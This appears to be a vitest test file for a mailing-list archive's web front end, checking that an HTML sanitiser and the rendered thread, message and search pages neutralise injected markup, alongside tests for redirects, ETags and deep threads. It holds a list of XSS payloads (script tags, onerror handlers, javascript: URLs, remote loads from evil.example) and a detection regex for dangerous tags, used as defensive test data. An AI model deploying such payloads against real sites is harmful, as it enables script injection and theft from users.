import { expect, test } from 'vitest';
import type { House } from '#platform/operation.ts';
import { collectionNamed, file, letter } from '../../../test/archive-shelf.ts';
import { testHouse } from '../../../test/test-house.ts';
import { rooms } from '../../rooms.ts';
import { createWeb } from '../../web/server.ts';
import { cleanHtml } from '../filing/mail-html.ts';

function browser(house: House) {
  const web = createWeb(house, rooms);
  return (path: string, headers: Record<string, string> = {}) =>
    web.request(`https://parley.test.example${path}`, { headers });
}

/** Written by hand; none may leave anything that runs, loads or submits. */
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://x.example" onclick="alert(1)" target="_top" style="color:red">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=p type=password><button formaction="javascript:alert(1)">go</button></form>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example"</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example">',
  '<div style="background:url(https://evil.example/x)" id="main" name="attributes" class="banner bad">x</div>',
  '<table background="https://evil.example/x"><td background="https://evil.example/y">x',
  '<video src="https://evil.example/v" poster="https://evil.example/p"><source src="https://evil.example/s"></video>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '"><svg/onload=alert(1)>',
  '</div></article></main><h1>Somebody else’s page</h1>',
  '<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=alert(1)></xmp>',
  '{{constructor.constructor("alert(1)")()}} #{alert(1)} <%= 7*7 %>',
];

const dangerous =
  /<(script|style|img|svg|math|iframe|form|input|button|object|embed|link|meta|base|video|source|template|h1)\b|<[^>]*\s(on\w+|style|id|name|target|background|srcdoc)\s*=|(href|src)\s*=\s*["']?\s*(?!https?:\/\/)[^>"']*:/i;

test.each(attacks)('HTML is made harmless: %s', (attack) => {
  const clean = cleanHtml(`<p>before</p>${attack}`).replace(/<img src="remote:[a-z.]+" alt="[^"]*" \/>/g, '');
  expect(clean).not.toMatch(dangerous);
  expect(clean).not.toContain('evil.example');
  expect(clean).toContain('before');
});

test('what a decent mail needs is kept; links lead only to the web', () => {
  const html = `<h1>Title</h1><p dir="rtl">نص <b>مهم</b></p><ul><li>one</li></ul><table><tr><td colspan="2">x</td></tr></table>
    <a href="https://x.example/?a=1&b=2">web</a> <a href="mailto:bob@example.org">Bob</a> <img src="cid:1"><blockquote>q</blockquote>`;
  expect(cleanHtml(html).replace(/\s+/g, ' ')).toBe(
    '<p class="heading">Title</p><p dir="rtl">نص <b>مهم</b></p><ul><li>one</li></ul><table><tr><td colspan="2">x</td></tr></table> <a href="https://x.example/?a=1&amp;b=2" rel="nofollow noopener noreferrer">web</a> <span>Bob</span> <blockquote>q</blockquote>',
  );
});

test('no field of a message gets markup into a page', async () => {
  await using open = await testHouse();
  const { house } = open;
  const shelf = { id: await collectionNamed(house, 'attacked'), slug: 'attacked' };
  const encode = (text: string) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
  for (const [n, attack] of attacks.entries()) {
    const file64 = Buffer.from(attack).toString('base64');
    const raw = letter({
      id: `x${n}"><script>@x.example`,
      subject: encode(`${n} ${attack}`),
      from: `${encode(attack)} <a@example.org>`,
      references: n > 0 ? ['x0"><script>@x.example'] : [],
      headers: ['MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=b'],
      body: `--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${attack}\r\n> ${attack}\r\n-- \r\n${attack}\r\n--b\r\nContent-Type: text/html; name="${encode(`${attack}.html`)}"\r\nContent-Disposition: attachment; filename="${encode(`${attack}.html`)}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${file64}\r\n--b--`,
    });
    await file(house, shelf, raw, { stakeholder: 'civ', country: 'KE', organisation: attack });
  }
  const get = browser(house);
  const { hash } = await house.db
    .selectFrom('message')
    .select('hash')
    .where('parent_id', 'is', null)
    .executeTakeFirstOrThrow();
  for (const path of [
    `/lists/attacked/threads/${hash}`,
    `/lists/attacked/messages/${hash}`,
    '/lists/attacked/2026-03',
    '/lists/attacked/search?q=alert',
    `/lists/attacked/search?q=${encodeURIComponent(attacks[24] ?? '')}`,
  ]) {
    const answer = await get(path);
    const page = await answer.text();
    expect([path, answer.status]).toEqual([path, 200]);
    const main = page
      .slice(page.indexOf('<main'), page.indexOf('</main>'))
      .replace(/<form (class="toolbar"|method="post" action="\/font")[\s\S]*?<\/form>/g, '')
      .replace(/<input id="q" name="q" type="search" value="[^"<>]*" maxlength="\d+" required="" dir="auto"\/>/, '')
      .replaceAll(/<article class="msg" id="[A-Z2-7]{32}"|<(h[1-3]|section|details|article)[^>]* id="[\w-]+"/g, '')
      .replaceAll(/<h1>/g, '')
      .replaceAll(/href="(#|\/|mailto:)/g, '');
    expect(main.replace(/&[a-z#0-9]+;/g, '')).not.toMatch(
      /<(script|style|img|svg|math|iframe|input|object|embed|base|video|template)\b|<[a-z][^>]*\son\w+=/i,
    );
    expect(page).toContain('</main>');
  }
  const attached = await get(`/lists/attacked/messages/${hash}/attachments/1`);
  expect(attached.headers.get('content-type')).toBe('application/octet-stream');
  expect(attached.headers.get('x-content-type-options')).toBe('nosniff');
  expect(attached.headers.get('content-disposition')).toBe(
    `attachment; filename="_script_alert(1)__script_.html"; filename*=utf-8''%3Cscript%3Ealert%281%29%3C_script%3E.html`,
  );
});

test('addresses: any message leads to its thread, lower case to upper, and a circle keeps its threads', async () => {
  await using open = await testHouse();
  const { house } = open;
  const shelf = { id: await collectionNamed(house, 'open'), slug: 'open' };
  const root = await file(house, shelf, letter({ id: 'root@x.example', subject: 'Paragraph 62' }), {
    stakeholder: 'tech',
    country: 'BR',
  });
  const raw = letter({
    id: 'answer@x.example',
    subject: 'Re: Paragraph 62',
    references: ['root@x.example'],
    from: 'Bo <bo@example.org>',
    body: 'On 2 March 2026 Ada Example wrote:\r\n> Hello.\r\n\r\nHello back.\r\n-- \r\nBo',
  });
  const answer = await file(house, shelf, raw, { stakeholder: 'gov', country: 'NG' });
  const get = browser(house);

  const redirected = await get(`/fr/lists/open/threads/${answer.hash}`);
  expect([redirected.status, redirected.headers.get('location')]).toEqual([
    302,
    `/fr/lists/open/threads/${root.hash}#${answer.hash}`,
  ]);
  const lower = await get(`/lists/open/threads/${root.hash.toLowerCase()}`);
  expect([lower.status, lower.headers.get('location')]).toEqual([301, `/lists/open/threads/${root.hash}`]);

  const page = await (await get(`/lists/open/threads/${root.hash}`)).text();
  expect(page).toContain('<title>Paragraph 62 ·');
  expect(page).toMatch(/<span class="g g-gov">Government<\/span><\/li><li>African Group/);
  expect(page).toContain('In reply to 1');
  expect(page).toContain('<summary>\u2068Ada Example\u2069, Mon, 2 Mar 2026, 09:00 UTC (1 quoted line)</summary>');
  expect(page).toContain('<summary>Signature</summary>');
  expect(page).toContain(
    'mailto:open@lists.test.example?subject=Re%3A%20Paragraph%2062&amp;In-Reply-To=%3Canswer%40x.example%3E',
  );
  expect(page).not.toMatch(/bo@example|ada@example/);

  const closed = { id: await collectionNamed(house, 'closed', 'team'), slug: 'closed' };
  await file(house, closed, letter({ id: 'root@x.example' }));
  for (const path of [
    `threads/${root.hash}`,
    `messages/${root.hash}`,
    `messages/${root.hash}.eml`,
    `messages/${root.hash}/attachments/1`,
    'search?q=a',
    '2026-03',
  ])
    expect([path, (await get(`/lists/closed/${path}`)).status]).toEqual([path, 404]);
});

test('a page that did not change is answered with 304, until a message comes', async () => {
  await using open = await testHouse();
  const { house } = open;
  const shelf = { id: await collectionNamed(house, 'open'), slug: 'open' };
  const { hash } = await file(house, shelf, letter({ id: 'root@x.example' }));
  const get = browser(house);
  const path = `/lists/open/threads/${hash}`;
  const tag = (await get(path)).headers.get('etag') ?? '';
  const again = async (language = '', headers = {}) =>
    (await get(language + path, { 'If-None-Match': tag, ...headers })).status;
  expect(await again()).toBe(304);
  expect(await again('/fr')).toBe(200);
  expect(await again('', { Cookie: 'theme=dark' })).toBe(200);
  await file(house, shelf, letter({ id: 'answer@x.example', references: ['root@x.example'] }));
  expect(await again()).toBe(200);
});

test('a thread of 60 levels and one of 300 answers come out in reading order', async () => {
  await using open = await testHouse();
  const { house } = open;
  const shelf = { id: await collectionNamed(house, 'deep'), slug: 'deep' };
  let root = '';
  for (let n = 0; n < 60; n += 1) {
    const filed = await file(
      house,
      shelf,
      letter({ id: `${n}@x.example`, references: n > 0 ? [`${n - 1}@x.example`] : [], body: `body ${n}` }),
    );
    root ||= filed.hash;
  }
  const page = await (await browser(house)(`/lists/deep/threads/${root}`)).text();
  expect([...page.matchAll(/>body (\d+)</g)].map(([, n]) => Number(n))).toEqual([...Array(60).keys()]);
  expect(page.match(/class="replies"/g)).toHaveLength(3);
});
